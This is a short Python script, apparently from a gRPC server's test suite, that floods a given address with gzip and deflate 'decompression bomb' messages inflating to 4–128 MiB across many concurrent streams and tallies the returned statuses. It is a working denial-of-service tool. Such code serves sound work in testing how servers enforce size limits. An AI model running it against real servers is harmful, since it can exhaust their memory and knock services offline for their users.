"""Sends small messages that inflate to vast ones, as fast as it can: attacker ADDRESS SECONDS.

Some are far over a server's limit of 4 MiB, some are exactly that, and go to handlers that read them and to handlers
that want one message. Prints how many calls ended with each status.
"""

import collections
import sys
import time

from message_encodings import bomb
from raw_connection import LARGEST_WINDOW, RawConnection, message

CALLS_AT_ONCE = 50
METHODS = ["Sink", "Get", "SynchronousGet", "GlobalSink"]


def attack(address, seconds):
    # 128 MiB in 128 KiB, 32 MiB in 32 KiB; and 4 MiB in 4 KiB, many times over one stream, which is allowed.
    attacks = [(encoding, message(bomb(encoding, size), 1))
               for encoding in ("gzip", "deflate") for size in (128, 32, 4)]
    honest = message(bomb("gzip", 4), 1) * 20
    connection = RawConnection(address, settings={4: LARGEST_WINDOW}, connection_window=LARGEST_WINDOW)
    statuses = collections.Counter()
    end = time.monotonic() + seconds
    number = 0
    while time.monotonic() < end:
        streams = []
        for _ in range(CALLS_AT_ONCE):
            method = METHODS[number % len(METHODS)]
            encoding, body = attacks[number % len(attacks)]
            if number % 25 == 0:
                method, encoding, body = "Sink", "gzip", honest
            number += 1
            stream = connection.open(method, [("grpc-encoding", encoding)])
            connection.discarded.add(stream)
            connection.body(stream, body)
            streams.append(stream)
        for stream in streams:
            statuses[connection.result(stream, 60).status] += 1
    return statuses


if __name__ == "__main__":
    print(dict(attack(sys.argv[1], float(sys.argv[2]))))
